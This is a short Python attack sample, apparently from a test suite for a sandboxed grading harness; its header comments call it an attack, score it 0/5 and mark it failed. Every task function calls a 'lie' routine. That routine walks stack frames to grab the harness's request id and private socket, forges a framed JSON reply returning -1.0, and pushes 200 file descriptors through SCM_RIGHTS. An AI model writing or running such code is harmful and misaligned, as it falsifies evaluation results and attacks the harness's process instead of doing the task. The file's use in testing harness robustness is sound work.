# attack: sends two hundred descriptors along with its reply
# score: 0/5
# verdict: failed

import array
import json
import socket
import struct
import sys


def identity():
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"]["id"]


def reply(value):
    updated, modified = ["updated", ["dict"]], ["modified", ["list"]]
    fields = ["dict", ["id", identity()], ["kind", "value"], ["value", value], updated, modified]
    return json.dumps(fields).encode()


def connection():
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["self"]._channel._connection


def lie(_):
    header = reply(-1.0)
    frame = struct.pack(">4sIQ", b"GR1\0", len(header), 0) + header
    rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1] * 200))
    connection().sendmsg([frame], [rights])
    return -1.0


def answer(x):
    return lie(x)


def table(x):
    return lie(x)


def visit(height, steps):
    return lie(height)
